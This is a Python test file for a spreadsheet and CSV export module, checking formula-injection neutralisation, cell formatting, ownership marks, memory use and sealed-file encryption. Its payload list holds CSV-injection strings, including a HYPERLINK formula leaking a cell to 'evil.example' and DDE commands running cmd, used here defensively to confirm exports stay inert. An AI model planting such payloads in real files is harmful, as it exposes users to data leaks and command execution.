"""R20: what leaves opens as text, figures as figures, and lies sealed; memory does not grow with the rows."""

import csv
import hashlib
import io
import tracemalloc
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

import pytest
from python_calamine import load_workbook

from core import crypto
from core.clock import SHANGHAI
from core.exporting import Sheet, csv_parts, open_file, seal_file, xlsx_parts
from core.exporting.sheets import Value, plain_value
from core.pages import Cell
from core.spreadsheets import harmless

NOW = datetime(2026, 11, 20, 10, 30, tzinfo=SHANGHAI)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(A1)",
]
KINDS = ("main", "money", "date", "num")


def sheet(*, kinds: tuple[str, ...] = KINDS, mark: tuple[str, ...] = ("内部资料 员工1", "Reason: 核对")) -> Sheet:
    headings = tuple(f"列{n}" for n, _kind in enumerate(kinds))
    return Sheet("客户", mark, headings, kinds, "员工1 S00001", NOW)


def texts(*values: str) -> list[list[Cell]]:
    return [[Cell(value)] for value in values]


def xlsx(made: Sheet, *chunks: list[list[Cell]]) -> bytes:
    return b"".join(xlsx_parts(made, chunks))


def opened(content: bytes) -> list[list[object]]:
    return load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python(skip_empty_area=False)


def test_the_twelve_payloads_are_twelve():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 12


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_workbook_is_text(payload: str):
    content = xlsx(sheet(kinds=("text",), mark=(payload,)), texts(payload))

    with ZipFile(io.BytesIO(content)) as book:
        page = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in page
    assert "<hyperlink" not in page
    assert 't="inlineStr"' in page
    rows = opened(content)
    assert [str(row[0]).strip() for row in (rows[0], rows[2])] == [payload.strip()] * 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_csv_file_is_text(payload: str):
    content = b"".join(csv_parts(sheet(kinds=("text",), mark=(payload,)), [texts(payload)])).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [rows[0][0], rows[2][0]] == [f"'{payload}"] * 2


@pytest.mark.parametrize("number", ["-5", "+1,234.50", "0", "12.5", "王小明", "a=b", "138****8000"])
def test_figures_and_words_stay_as_they_are(number: str):
    assert harmless(number) == number


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        (Cell(Decimal("1234.5"), "money"), Decimal("1234.50")),
        (Cell(Decimal("49999.99"), "wan"), Decimal("49999.99")),
        (Cell(-3, "change"), Decimal("-3.00")),
        (Cell(date(2026, 11, 20), "date"), date(2026, 11, 20)),
        (Cell(NOW, "text"), datetime(2026, 11, 20, 10, 30)),  # noqa: DTZ001  a workbook knows no zones
        (Cell(7, "num"), 7),
        (Cell("3.2", "num"), "3.2"),
        (Cell(7, "text"), "7"),
        (Cell("0012", "text"), "0012"),
        (Cell(None, "money"), None),
        (Cell("", "text"), None),
        (Cell("王小明", "main", url="/x/", hint="C1"), "王小明"),
    ],
)
def test_a_cell_is_what_it_stands_for(cell: Cell, value: Value):
    assert plain_value(cell) == value


ROWS = [
    [Cell("王小明", "main"), Cell(Decimal("1234567.8"), "wan"), Cell(date(2027, 1, 5), "date"), Cell(3, "num")],
    [Cell("0012", "main"), Cell(None, "wan"), Cell(None, "date"), Cell(0, "num")],
]


def test_a_workbook_holds_mark_headings_and_rows_of_all_chunks():
    rows = opened(xlsx(sheet(), ROWS[:1], ROWS[1:]))

    assert rows == [
        ["内部资料 员工1", "", "", ""],
        ["Reason: 核对", "", "", ""],
        ["列0", "列1", "列2", "列3"],
        ["王小明", 1234567.8, date(2027, 1, 5), 3.0],
        ["0012", "", "", 0.0],
    ]


def test_a_workbook_without_rows_opens():
    assert opened(xlsx(sheet()))[-1] == ["列0", "列1", "列2", "列3"]


def test_a_workbook_says_in_its_properties_whose_it_is():
    with ZipFile(io.BytesIO(xlsx(sheet(), ROWS))) as book:
        core, page = book.read("docProps/core.xml").decode(), book.read("xl/worksheets/sheet1.xml").decode()

    assert "<dc:creator>员工1 S00001</dc:creator>" in core
    assert "内部资料 员工1" in core
    assert "<oddFooter>&amp;L内部资料 员工1" in page


def test_what_no_workbook_can_hold_is_taken_out():
    rows = opened(xlsx(sheet(kinds=("text",)), texts("a\x00\x0bb<&>", "_x0041_", "长" * 40_000)))

    assert rows[3][0] == "ab<&>"
    assert str(rows[4][0]) in {"_x0041_", "_x005F_x0041_"}  # readers differ in unescaping; never "A"
    assert len(str(rows[5][0])) == 32_767


def test_days_before_a_workbooks_calendar_are_text():
    assert opened(xlsx(sheet(kinds=("date",)), [[Cell(date(1899, 5, 1), "date")]]))[3] == ["1899-05-01"]


def test_a_csv_file_has_its_mark_and_plain_figures():
    content = b"".join(csv_parts(sheet(), [ROWS]))

    assert content.startswith("\ufeff内部资料 员工1\r\nReason: 核对\r\n列0,列1,列2,列3\r\n".encode())
    assert content.decode().splitlines()[3:] == ["王小明,1234567.80,2027-01-05,3", "0012,,,0"]


@pytest.mark.parametrize("parts", [xlsx_parts, csv_parts])
def test_memory_does_not_grow_with_the_rows(parts):
    def chunks(count: int) -> Iterator[list[list[Cell]]]:
        for _n in range(count):
            yield [list(ROWS[0]) for _m in range(500)]

    peaks = []
    for count in (4, 40):
        tracemalloc.start()
        for _part in parts(sheet(), chunks(count)):
            pass
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 500_000


def test_a_file_is_sealed_and_opens_to_what_it_was(tmp_path: Path):
    content = b"personal " * 300_000
    path = tmp_path / "sealed" / "export-1.sealed"

    part = seal_file(iter([content[:10], b"", content[10:]]), path)

    assert (part.sha256, part.size) == (hashlib.sha256(content).digest(), len(content))
    assert b"personal" not in path.read_bytes()
    assert path.stat().st_mode & 0o077 == 0
    assert b"".join(open_file(path)) == content


def test_nothing_is_left_of_a_file_that_was_not_finished(tmp_path: Path):
    path = tmp_path / "export-1.sealed"

    def broken() -> Iterator[bytes]:
        yield b"half"
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        seal_file(broken(), path)
    assert list(tmp_path.iterdir()) == []


def test_a_changed_file_does_not_open(tmp_path: Path):
    path = tmp_path / "export-1.sealed"
    seal_file(iter([b"x" * 100]), path)
    path.write_bytes(path.read_bytes()[:-1] + b"\x00")

    with pytest.raises(crypto.CryptoError):
        b"".join(open_file(path))
